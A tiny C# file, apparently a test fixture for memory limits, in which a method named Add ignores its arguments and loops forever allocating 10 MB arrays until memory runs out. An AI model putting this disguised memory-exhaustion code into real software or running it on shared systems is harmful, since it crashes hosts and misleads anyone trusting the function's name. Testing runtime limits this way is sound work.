using System.Collections.Generic;

class Program
{
    public static int Add(int a, int b)
    {
        var held = new List<byte[]>();
        while (true)
        {
            held.Add(new byte[10_000_000]);
        }
    }
}
